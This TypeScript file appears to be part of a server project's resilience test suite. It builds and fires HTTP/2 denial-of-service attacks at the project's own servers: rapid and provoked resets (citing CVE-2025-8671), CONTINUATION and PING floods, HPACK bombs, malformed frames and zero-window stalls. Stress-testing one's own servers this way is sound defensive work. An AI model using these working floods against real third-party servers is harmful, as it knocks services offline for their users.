// HTTP/2 floods: resets, CONTINUATION, PING, SETTINGS and others, closed windows, and as many streams as possible.
import { setTimeout as sleep } from 'node:timers/promises';
import type { TLSSocket } from 'node:tls';
import type { Server } from '../parity/client.ts';
import {
  connectionFloods,
  emptyData,
  endlessHeaders,
  hpackBomb,
  many,
  rapidResets,
} from '../support/http2-floods.ts';
import { endHeaders, endStream, frame, frameType, headerBlock, preface } from '../support/http2-frames.ts';
import type { Attack, AttackClass } from './attack.ts';
import { dial, flood, untilWritable } from './client.ts';
import { createLargeList } from './large-list.ts';

const connections = 10;
const floodMs = 2_000;
const holdMs = 2_000;
const smallPath = '/api/v1/namespaces/default';

export const http2: AttackClass = {
  name: 'HTTP/2 floods',
  sides: ['orch', 'reference'],
  async prepare({ server, undo }) {
    const listPath = await createLargeList(server, 'attack-http2', undo);
    return { target: server, attacks: attacksOn(server, listPath) };
  },
};

function attacksOn(server: Server, listPath: string): Attack[] {
  const authorization = `Bearer ${server.token}`;
  const floods: Record<string, { start?: Buffer; frames: Buffer }> = {
    ...Object.fromEntries(Object.entries(connectionFloods).map(([name, frames]) => [name, { frames }])),
    'SETTINGS frames with all settings': { frames: many(frame(frameType.settings, 0, 0, allSettings)) },
    'PING acknowledgements': { frames: many(frame(frameType.ping, 1, 0, Buffer.alloc(8))) },
    'SETTINGS acknowledgements': { frames: many(frame(frameType.settings, 1, 0)) },
    'GOAWAY frames': { frames: many(frame(frameType.goAway, 0, 0, Buffer.alloc(8))) },
    'empty DATA frames': {
      start: emptyData(smallPath, authorization),
      frames: many(frame(frameType.data, 0, 1)),
    },
    'CONTINUATION frames': { start: endlessHeaders(smallPath).start, frames: endlessHeaders(smallPath).more },
    'empty CONTINUATION frames': {
      start: endlessHeaders(smallPath).start,
      frames: many(frame(frameType.continuation, 0, 1)),
    },
  };
  return [
    ...Object.entries(floods).flatMap(([name, { start, frames }]) =>
      [true, false].map(
        (isReading): Attack => ({
          name: `${name}${isReading ? '' : ', reading nothing'}`,
          count: connections,
          run: () => floodOnMany(server, isReading, start ?? Buffer.alloc(0), frames),
        }),
      ),
    ),
    ...[smallPath, listPath, `${listPath}?watch=1`].map(
      (path): Attack => ({
        name: `requests of ${path} that are reset at once`,
        count: connections,
        run: () => streamsOnMany(server, (first) => rapidResets(path, authorization, first, 100)),
      }),
    ),
    {
      name: 'requests that the server has to reset',
      count: connections,
      run: () => streamsOnMany(server, (first) => provokedResets(smallPath, authorization, first, 100)),
    },
    {
      name: 'HPACK bombs',
      count: connections,
      run: () => streamsOnMany(server, (first) => hpackBomb(smallPath, first), 1),
    },
    ...forbiddenFrames.map(
      ([name, frames]): Attack => ({
        name,
        count: connections,
        run: () => onMany(server, preface(), async (socket) => void socket.resume().write(frames)),
      }),
    ),
    {
      name: 'large lists in a window of 0',
      count: connections,
      run: () => unread(server, listPath, 50, Buffer.from([0, 4, 0, 0, 0, 0])),
    },
    {
      name: 'large lists in a window of 1 byte',
      count: connections,
      run: () => unread(server, listPath, 50, Buffer.from([0, 4, 0, 0, 0, 1])),
    },
    {
      name: 'large lists on connections that are not read',
      count: connections,
      run: () => unread(server, listPath, 50, Buffer.from([0, 4, 0x7f, 0xff, 0xff, 0xff])),
    },
    {
      name: 'as many watches as possible',
      count: connections,
      run: () => unread(server, `${listPath}?watch=1`, 100, Buffer.from([0, 4, 0, 0, 0, 0])),
    },
    {
      name: 'more streams than allowed',
      count: connections,
      run: () => unread(server, smallPath, 2_000, Buffer.from([0, 4, 0, 0, 0, 0])),
    },
  ];
}

/** Every setting of RFC 9113, at unusual values. */
const allSettings = Buffer.from([
  ...[0, 1, 0xff, 0xff, 0xff, 0xff],
  ...[0, 2, 0, 0, 0, 0],
  ...[0, 3, 0, 0, 0, 0],
  ...[0, 4, 0x7f, 0xff, 0xff, 0xff],
  ...[0, 5, 0, 0xff, 0xff, 0xff],
  ...[0, 6, 0, 0, 0, 0],
]);

const forbiddenFrames: readonly (readonly [name: string, frames: Buffer])[] = [
  ['a frame of 16 MB', frame(frameType.data, 0, 1, Buffer.alloc(0xffffff))],
  ['a frame that never ends', frame(frameType.ping, 0, 0, Buffer.alloc(8)).subarray(0, 12)],
  [
    'a request of a client with an even stream',
    frame(frameType.headers, endHeaders, 2, headerBlock(smallPath)),
  ],
  ['a request on stream 0', frame(frameType.headers, endHeaders, 0, headerBlock(smallPath))],
  ['a request on the last stream', frame(frameType.headers, endHeaders, 0x7fffffff, headerBlock(smallPath))],
  ['a push promise', frame(frameType.pushPromise, endHeaders, 1, Buffer.from([0, 0, 0, 2, 0x82]))],
  ['a window above 2^31', many(frame(frameType.windowUpdate, 0, 0, Buffer.from([0x7f, 0xff, 0xff, 0xff])))],
  ['a window update of 0', frame(frameType.windowUpdate, 0, 0, Buffer.alloc(4))],
  ['padding that is longer than its frame', frame(frameType.data, 8, 1, Buffer.from([255, 1]))],
  [
    'a header index that does not exist',
    frame(frameType.headers, endHeaders, 1, Buffer.from([0xff, 0xff, 0xff, 0xff, 0x07])),
  ],
  [
    'a header length that overflows',
    frame(
      frameType.headers,
      endHeaders,
      1,
      Buffer.from([0x00, 0x7f, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0x0f]),
    ),
  ],
  [
    'an HPACK table of 4 GB',
    frame(frameType.headers, endHeaders, 1, Buffer.from([0x3f, 0xff, 0xff, 0xff, 0xff, 0x0f])),
  ],
  ['a stream that depends on itself', frame(frameType.priority, 0, 3, Buffer.from([0, 0, 0, 3, 1]))],
];

/** Requests with an invalid frame behind them, which the server answers with a reset (CVE-2025-8671). */
function provokedResets(path: string, authorization: string, first: number, count: number): Buffer {
  const block = headerBlock(path, { authorization });
  return Buffer.concat(
    Array.from({ length: count }, (_, index) => {
      const stream = first + 2 * index;
      return [
        frame(frameType.headers, endHeaders | endStream, stream, block),
        frame(frameType.windowUpdate, 0, stream, Buffer.alloc(4)),
      ];
    }).flat(),
  );
}

async function onMany(
  server: Server,
  start: Buffer,
  act: (socket: TLSSocket) => Promise<void>,
): Promise<void> {
  const sockets = await Promise.all(
    Array.from({ length: connections }, () => dial(server, { ALPNProtocols: ['h2'] })),
  );
  for (const socket of sockets) socket.write(start);
  await Promise.all(sockets.map(act));
  await sleep(300);
  for (const socket of sockets) socket.destroy();
}

const floodOnMany = (server: Server, isReading: boolean, start: Buffer, frames: Buffer) =>
  onMany(server, Buffer.concat([preface(), start]), async (socket) => {
    if (isReading) socket.resume();
    await flood(socket, frames, floodMs);
  });

/** Opens stream after stream; connects again when the server closes the connection. */
async function streamsOnMany(
  server: Server,
  frames: (first: number) => Buffer,
  perWrite = 100,
): Promise<void> {
  const end = performance.now() + floodMs;
  const attack = async () => {
    while (performance.now() < end) {
      const socket = await dial(server, { ALPNProtocols: ['h2'] });
      socket.resume().write(preface());
      for (let stream = 1; performance.now() < end && !socket.destroyed; stream += 2 * perWrite) {
        if (socket.write(frames(stream))) await new Promise(setImmediate);
        else await untilWritable(socket, end - performance.now());
      }
      socket.destroy();
    }
  };
  await Promise.all(Array.from({ length: connections }, attack));
}

/** Opens streams, and reads no response. */
async function unread(server: Server, path: string, streams: number, settings: Buffer): Promise<void> {
  const block = headerBlock(path, { authorization: `Bearer ${server.token}` });
  const requests = Array.from({ length: streams }, (_, index) =>
    frame(frameType.headers, endHeaders | endStream, 2 * index + 1, block),
  );
  await onMany(server, Buffer.concat([preface(settings), ...requests]), async (socket) => {
    socket.pause();
    await sleep(holdMs);
  });
}
